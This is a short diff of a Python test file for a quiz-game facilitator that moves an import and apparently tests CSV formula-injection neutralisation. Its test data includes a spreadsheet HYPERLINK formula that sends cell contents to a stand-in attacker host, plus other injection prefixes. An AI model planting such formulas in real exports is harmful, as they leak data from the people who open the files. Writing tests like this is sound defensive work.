@@ -8,7 +8,7 @@ import pytest
 from facilitator.games.partida import Game, Question, parse_settings
 from facilitator.questions import load_bank, read_csv, write_csv
 from facilitator.questions.csv_bank import neutralise, unneutralise
-from facilitator.results import standings_csv, turns_csv
+from facilitator.games.partida.exports import standings_csv, turns_csv
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
 NAMES = [LINK, "+34 600 000", "-Rojo", "@Azul"]
